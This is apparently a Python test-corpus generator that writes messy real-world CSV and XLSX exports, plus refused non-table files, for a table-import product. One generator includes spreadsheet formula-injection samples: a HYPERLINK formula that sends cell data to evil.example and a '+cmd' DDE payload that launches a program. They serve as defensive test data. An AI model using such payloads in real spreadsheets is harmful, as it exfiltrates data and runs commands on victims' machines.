"""Hostile and real-shaped corpus files: what spreadsheets and export tools really write.

Each generator writes one ``tables/hostile_*`` file (labelled in ``labels.json``) or, for files the
product must refuse in one line, one ``refused/hostile_*`` file (``test_hostile_doors.py`` checks
the message). Every file is seeded and under 200 KB; see ``tests/corpus/README.md``.
"""

from __future__ import annotations

import json
import zlib
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl import Workbook

from tests.corpus._generate import (
    CITIES,
    COUNTRIES,
    PRODUCTS,
    TABLES,
    blank,
    people,
    phones,
    rng_for,
    timestamps,
)

REFUSED = Path(__file__).resolve().parent / "refused"


def _write_text(path: Path, text: str, *, encoding: str = "utf-8", newline: str = "\n") -> None:
    path.write_bytes(text.replace("\n", newline).encode(encoding))


def _csv(frame: pd.DataFrame, *, sep: str = ",") -> str:
    return frame.to_csv(index=False, sep=sep, lineterminator="\n")


def utf16_unicode_text() -> None:
    """Excel "Unicode text": UTF-16 LE with a BOM, tab-separated, CRLF line ends."""
    rng = rng_for(101)
    n = 300
    first, last, emails = people(rng, n)
    frame = pd.DataFrame(
        {
            "Customer ID": [f"C{i:06d}" for i in rng.choice(900_000, n, replace=False)],
            "Name": first + " " + last,
            "E-mail": emails,
            "Mobile": phones(rng, n, "+44 7### ### ###"),
            "City": rng.choice(CITIES, n),
            "Orders": rng.poisson(3, n),
            "Total Spent": np.round(rng.gamma(2.0, 80.0, n), 2),
        }
    )
    text = "\ufeff" + _csv(frame, sep="\t")
    _write_text(TABLES / "hostile_utf16_unicode_text.txt", text, encoding="utf-16-le", newline="\r\n")


def _euro(value: float) -> str:
    whole, cents = f"{value:,.2f}".split(".")
    return f"{whole.replace(',', '.')},{cents} €"


def euro_semicolon() -> None:
    """German shop orders: ``;``, decimal comma, thousands dots and a currency suffix ("1.234,50 €")."""
    rng = rng_for(102)
    n = 600
    customers = [f"K-{i:05d}" for i in rng.choice(90_000, 150, replace=False)]
    amounts = np.round(rng.gamma(1.5, 400.0, n), 2)
    frame = pd.DataFrame(
        {
            "Bestellnummer": [f"B{100000 + i}" for i in range(n)],
            "Kundennummer": rng.choice(customers, n),
            "Bestelldatum": timestamps(rng, n, "2023-03-01", 400).dt.strftime("%d.%m.%Y").to_numpy(),
            "Artikel": rng.choice(PRODUCTS, n),
            "Menge": rng.integers(1, 5, n),
            "Bruttobetrag": [_euro(a) for a in amounts],
            "Zahlungsart": rng.choice(["PayPal", "Rechnung", "Kreditkarte", "Lastschrift"], n),
        }
    )
    text = _csv(frame, sep=";")
    _write_text(TABLES / "hostile_euro_semicolon.csv", text, encoding="cp1252", newline="\r\n")


def multiline_notes() -> None:
    """CRM contacts whose notes hold line breaks, quotes, separators and a duplicate + blank header."""
    rng = rng_for(103)
    n = 250
    first, last, emails = people(rng, n)
    notes = rng.choice(
        [
            'Called twice,\nasked for "the blue one"',
            "VIP;\r\nprefers phone\r\nno weekends",
            'said "no, thanks" — try in spring',
            "",
            "moved to Lyon\n\nnew address pending",
        ],
        n,
    )
    frame = pd.DataFrame(
        {
            "Contact ID": rng.choice(np.arange(10_000, 99_999), n, replace=False),
            "Name": first + " " + last,
            "Email": emails,
            "Notes": notes,
            "Phone": blank(rng, phones(rng, n, "+33 6 ## ## ## ##"), 0.3),
            "Email (2)": blank(rng, emails, 0.7),
            "Lifetime Value": np.round(rng.gamma(2.0, 90.0, n), 2),
        }
    )
    text = _csv(frame)
    header, body = text.split("\n", 1)
    # the export repeats "Email" and leaves one header cell blank, as real CRM exports do
    header = header.replace("Email (2)", "Email").replace("Lifetime Value", "")
    _write_text(TABLES / "hostile_multiline_notes.csv", header + "\n" + body)


def report_with_totals() -> None:
    """A report export: 3 title lines, the table, trailing empty columns and rows, then a totals row."""
    rng = rng_for(104)
    n = 120
    _, _, emails = people(rng, n)
    spent = np.round(rng.gamma(2.0, 60.0, n), 2)
    orders = rng.poisson(4, n) + 1
    frame = pd.DataFrame(
        {
            "Customer": [f"{i:05d}" for i in rng.choice(99_999, n, replace=False)],
            "Email": emails,
            "Country": rng.choice(COUNTRIES, n),
            "Orders": orders,
            "Revenue": spent,
            "": "",
            " ": "",
        }
    )
    lines = ["Customer revenue report,,,,,,", "Generated 2024-03-31 by ShopAdmin,,,,,,", ",,,,,,"]
    lines.append(_csv(frame).rstrip("\n"))
    lines += [",,,,,,", ",,,,,,", f"Total,,,{orders.sum()},{spent.sum():.2f},,"]
    _write_text(TABLES / "hostile_report_with_totals.csv", "\n".join(lines) + "\n", newline="\r\n")


def concatenated_exports() -> None:
    """Two monthly exports pasted together: the header row repeats in the middle of the file."""
    rng = rng_for(105)
    n = 400
    frame = pd.DataFrame(
        {
            "order_id": np.arange(5000, 5000 + n),
            "customer_id": rng.choice(np.arange(100, 220), n),
            "order_date": timestamps(rng, n, "2024-01-01", 60).dt.strftime("%Y-%m-%d").to_numpy(),
            "sku": rng.choice([f"SKU-{k:03d}" for k in range(40)], n),
            "quantity": rng.integers(1, 4, n),
            "total": np.round(rng.gamma(2.0, 25.0, n), 2),
        }
    )
    half = n // 2
    text = _csv(frame.iloc[:half]) + _csv(frame.iloc[half:])
    _write_text(TABLES / "hostile_concatenated_exports.csv", text)


def mixed_dates() -> None:
    """Dates as people leave them: mixed formats in one column, Excel serials, epoch milliseconds."""
    rng = rng_for(106)
    n = 300
    stamps = timestamps(rng, n, "2022-01-01", 700)
    formats = rng.choice(["%Y-%m-%d", "%d/%m/%Y", "%d.%m.%Y", "%Y-%m-%d %H:%M:%S"], n)
    serial = (stamps.dt.normalize() - pd.Timestamp("1899-12-30")).dt.days
    frame = pd.DataFrame(
        {
            "customer_id": rng.choice(np.arange(1, 10_000), n, replace=False),
            "signup_date": [s.strftime(f) for s, f in zip(stamps, formats, strict=True)],
            "first_order_date": serial.to_numpy(),  # Excel serial days (a "General" cell)
            "last_seen_ms": ((stamps - pd.Timestamp(0)) // pd.Timedelta(milliseconds=1)).to_numpy()
            + rng.integers(0, 9_000_000_000, n),
            "orders": rng.poisson(2, n),
            "spend": np.round(rng.gamma(2.0, 50.0, n), 2),
        }
    )
    _write_text(TABLES / "hostile_mixed_dates.csv", _csv(frame))


def scientific_ids() -> None:
    """A list saved by Excel: long ids shown as "1.23457E+11", phones with "+" and spaces, TRUE/FALSE."""
    rng = rng_for(107)
    n = 200
    ids = 100_000_000_000 + rng.choice(900_000_000_000, n, replace=False)
    first, last, emails = people(rng, n)
    frame = pd.DataFrame(
        {
            "Member ID": [f"{i:.5E}".replace("E+", "E+") for i in ids],
            "Full Name": first + " " + last,
            "Email": emails,
            "Phone": phones(rng, n, "+49 151 ### ####"),
            "Newsletter": rng.choice(["TRUE", "FALSE"], n, p=[0.6, 0.4]),
            "VIP": rng.choice(["TRUE", "FALSE"], n, p=[0.1, 0.9]),
            "Fax": None,
            "Points": rng.integers(0, 5000, n),
        }
    )
    _write_text(TABLES / "hostile_scientific_ids.csv", _csv(frame), newline="\r\n")


def mailchimp_statuses() -> None:
    """An audience export with Mailchimp statuses and emails written with names and ``mailto:``."""
    rng = rng_for(108)
    n = 300
    first, last, emails = people(rng, n)
    style = rng.choice(3, n)
    written = [
        e if s == 0 else (f'"{given} {family}" <{e}>' if s == 1 else f"mailto:{e}")
        for e, given, family, s in zip(emails, first, last, style, strict=True)
    ]
    frame = pd.DataFrame(
        {
            "Email Address": written,
            "First Name": first,
            "Last Name": last,
            "Email Marketing Status": rng.choice(
                ["Subscribed", "Unsubscribed", "Cleaned", "Pending", "Opted out"],
                n,
                p=[0.6, 0.15, 0.1, 0.1, 0.05],
            ),
            "MEMBER_RATING": rng.integers(1, 6, n),
            "OPTIN_TIME": timestamps(rng, n, "2020-01-01", 1200).dt.strftime("%Y-%m-%d %H:%M:%S").to_numpy(),
            "Company": None,
            "TAGS": blank(rng, rng.choice(['"vip"', '"newsletter"'], n), 0.6),
        }
    )
    _write_text(TABLES / "hostile_mailchimp_statuses.csv", _csv(frame))


def wide_table() -> None:
    """A 300-column survey-style table (a customer id, then 299 answers)."""
    rng = rng_for(109)
    n = 120
    columns = {"respondent_id": np.arange(1, n + 1)}
    for q in range(1, 300):
        columns[f"Q{q}"] = rng.integers(1, 6, n)
    _write_text(TABLES / "hostile_wide_300_columns.csv", _csv(pd.DataFrame(columns)))


def one_row() -> None:
    """A customer list with exactly one customer."""
    text = "customer_id,email,country,total_spent\n1001,ann@example.org,DE,129.90\n"
    _write_text(TABLES / "hostile_one_row.csv", text)


def long_cells_and_formulas() -> None:
    """Formula-looking cells (``=HYPERLINK``, ``+cmd``, ``-2+3``, ``@SUM``) and one 100 KB cell."""
    rng = rng_for(110)
    n = 60
    _, _, emails = people(rng, n)
    notes = rng.choice(
        [
            '=HYPERLINK("http://evil.example/?x="&A2,"click")',
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd",
            "ok",
        ],
        n,
    ).astype(object)
    notes[7] = "lorem ipsum " * 8_600  # about 100 KB in one cell
    frame = pd.DataFrame(
        {
            "id": np.arange(7001, 7001 + n),
            "email": emails,
            "comment": notes,
            "balance": [f"{v:.2f}" if k % 9 else "-2+3" for k, v in enumerate(rng.normal(50, 30, n))],
            "score": rng.integers(0, 100, n),
        }
    )
    _write_text(TABLES / "hostile_formulas_long_cells.csv", _csv(frame))


def nul_byte() -> None:
    """A CSV with a stray NUL byte inside one cell (a broken export or a copied C string)."""
    rng = rng_for(111)
    n = 80
    first, last, emails = people(rng, n)
    frame = pd.DataFrame(
        {"customer_id": np.arange(1, n + 1), "name": first + " " + last, "email": emails,
         "spend": np.round(rng.gamma(2.0, 40.0, n), 2)}
    )  # fmt: skip
    text = _csv(frame)
    cut = text.index("\n", 200)
    (TABLES / "hostile_nul_byte.csv").write_bytes((text[:cut] + "\x00" + text[cut:]).encode())


def _cover_sheet_workbook(path: Path, frame: pd.DataFrame) -> None:
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        notes = ["Prepared by: CRM team", "Confidential", "See sheet 2"]
        cover = pd.DataFrame({"Quarterly customer export": notes})
        cover.to_excel(writer, sheet_name="Cover", index=False)
        frame.to_excel(writer, sheet_name="Customers", index=False)


def workbook_cover_sheet() -> None:
    """An XLSX whose first sheet is a cover page; the customers are on the second sheet."""
    rng = rng_for(112)
    n = 200
    first, last, emails = people(rng, n)
    frame = pd.DataFrame(
        {
            "Customer No": rng.choice(np.arange(20_000, 30_000), n, replace=False),
            "Name": first + " " + last,
            "Email": emails,
            "Country": rng.choice(COUNTRIES, n),
            "Annual Spend": np.round(rng.gamma(2.0, 150.0, n), 2),
            "Marketing Opt-In": rng.choice(["Yes", "No"], n),
        }
    )
    _cover_sheet_workbook(TABLES / "hostile_cover_sheet.xlsx", frame)


def workbook_merged_header() -> None:
    """An XLSX report with a merged two-row header ("Customer" over "ID" and "Name" ...)."""
    rng = rng_for(113)
    n = 150
    first, last, _ = people(rng, n)
    book = Workbook()
    sheet = book.active
    sheet.title = "Report"
    sheet.append(["Customer", None, "Orders", None, "Last order"])
    sheet.append(["ID", "Name", "Count", "Value", "Date"])
    sheet.merge_cells("A1:B1")
    sheet.merge_cells("C1:D1")
    dates = timestamps(rng, n, "2023-06-01", 300).dt.normalize()
    ids = rng.choice(np.arange(1000, 9999), n, replace=False)
    for k in range(n):
        sheet.append(
            [int(ids[k]), f"{first[k]} {last[k]}", int(rng.poisson(3) + 1), round(float(rng.gamma(2, 70)), 2),
             dates[k].to_pydatetime()]
        )  # fmt: skip
    book.save(TABLES / "hostile_merged_header.xlsx")


def refused_files() -> None:
    """Files that are not tables: header only, HTML and JSON named .csv, binary named .csv."""
    REFUSED.mkdir(exist_ok=True)
    _write_text(REFUSED / "hostile_header_only.csv", "customer_id,email,total_spent\r\n", newline="\r\n")
    html = (
        "<!DOCTYPE html>\n<html><head><title>Export</title></head><body>\n<table>\n"
        "<tr><th>id</th><th>email</th></tr>\n<tr><td>1</td><td>a@example.org</td></tr>\n</table>\n</body></html>\n"
    )
    _write_text(REFUSED / "hostile_html_named.csv", html)
    records = [{"id": k, "email": f"user{k}@example.org", "spend": 10.5 * k} for k in range(1, 40)]
    _write_text(REFUSED / "hostile_json_named.csv", json.dumps(records, indent=2))
    png = b"\x89PNG\r\n\x1a\n" + zlib.compress(bytes(range(256)) * 8)
    (REFUSED / "hostile_binary_named.csv").write_bytes(png)


def blank_lines_above() -> None:
    """A list with 5,000 blank lines above its header (a report tool's padding)."""
    rng = rng_for(114)
    n = 90
    _, _, emails = people(rng, n)
    frame = pd.DataFrame(
        {"member_id": np.arange(501, 501 + n), "email": emails, "spend": np.round(rng.gamma(2.0, 30.0, n), 2)}
    )
    _write_text(TABLES / "hostile_blank_lines_above.csv", "\n" * 5000 + _csv(frame))


def utf16_without_bom() -> None:
    """UTF-16 LE text without a byte-order mark (some database and PowerShell exports)."""
    rng = rng_for(115)
    n = 120
    first, last, emails = people(rng, n)
    frame = pd.DataFrame(
        {
            "account_id": [f"A-{k:04d}" for k in rng.choice(9999, n, replace=False)],
            "full_name": first + " " + last,
            "email": emails,
            "lifetime_value": np.round(rng.gamma(2.0, 75.0, n), 2),
        }
    )
    _write_text(TABLES / "hostile_utf16_no_bom.csv", _csv(frame), encoding="utf-16-le", newline="\r\n")


def refused_shapes() -> None:
    """A quote never closed (every line after it would become one cell) and 17,000 columns."""
    REFUSED.mkdir(exist_ok=True)
    rows = ["id,note,spend", '1,"oops - the quote never closes,3.50']
    rows += [f"{k},fine,{k % 40}.25" for k in range(2, 1500)]
    _write_text(REFUSED / "hostile_unclosed_quote.csv", "\n".join(rows) + "\n")
    width = 17_000
    header = ",".join(f"c{k}" for k in range(width))
    _write_text(REFUSED / "hostile_17000_columns.csv", header + "\n" + ",".join("1" * width) + "\n")


HOSTILE_GENERATORS = (
    utf16_unicode_text,
    euro_semicolon,
    multiline_notes,
    report_with_totals,
    concatenated_exports,
    mixed_dates,
    scientific_ids,
    mailchimp_statuses,
    wide_table,
    one_row,
    long_cells_and_formulas,
    nul_byte,
    workbook_cover_sheet,
    workbook_merged_header,
    refused_files,
    blank_lines_above,
    utf16_without_bom,
    refused_shapes,
)
